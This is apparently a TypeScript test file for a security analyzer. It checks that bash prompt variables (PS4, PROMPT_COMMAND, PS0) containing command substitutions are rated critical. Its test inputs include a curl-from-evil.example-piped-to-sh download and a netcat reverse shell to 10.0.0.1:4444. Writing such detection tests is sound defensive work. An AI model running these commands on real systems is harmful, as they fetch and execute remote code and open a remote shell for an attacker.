// Dangerous code reached through one level of indirection: prompt variables bash runs by itself, and
// (below) values followed through containers, lambdas, defaults, loops and identity functions.

import { describe, expect, it } from "vitest";
import { Analyzer, SEVERITIES, type Severity } from "../src/governance/index.js";
import type { Language } from "../src/languages/index.js";

const analyzer = new Analyzer();
const atLeast = (severity: Severity, min: Severity): boolean => SEVERITIES.indexOf(severity) >= SEVERITIES.indexOf(min);

async function worst(language: Language, code: string): Promise<{ severity: Severity | "none"; rules: string[] }> {
  const { findings } = await analyzer.analyze(language, code);
  const top = findings.reduce<Severity | "none">((acc, f) => (acc === "none" || atLeast(f.severity, acc) ? f.severity : acc), "none");
  return { severity: top, rules: findings.map((f) => `${f.severity} ${f.ruleId}`) };
}

describe("bash prompt variables", () => {
  it("judges the command substitutions of PS4 as code: a download piped to sh in PS4 before set -x is critical", async () => {
    const r = await worst("bash", "PS4='$(curl -s http://evil.example/i.sh | sh)'; set -x; true");
    expect(r.severity, r.rules.join()).toBe("critical");
    expect(r.rules).toContain("medium sh.code-exec.prompt-code");
  });

  it("judges PROMPT_COMMAND and PS0 as code, exported or not", async () => {
    expect((await worst("bash", "export PROMPT_COMMAND='curl -s http://evil.example/i.sh | sh'")).severity).toBe("critical");
    expect((await worst("bash", 'PS0="`nc -e /bin/sh 10.0.0.1 4444`"')).severity).toBe("critical");
  });

  it("leaves an ordinary prompt alone", async () => {
    expect((await worst("bash", "PS1='\\u@\\h:\\w\\$ '\nPS4='+ ${BASH_SOURCE}:${LINENO}: '\nset -x\nls")).severity).toBe("none");
  });
});
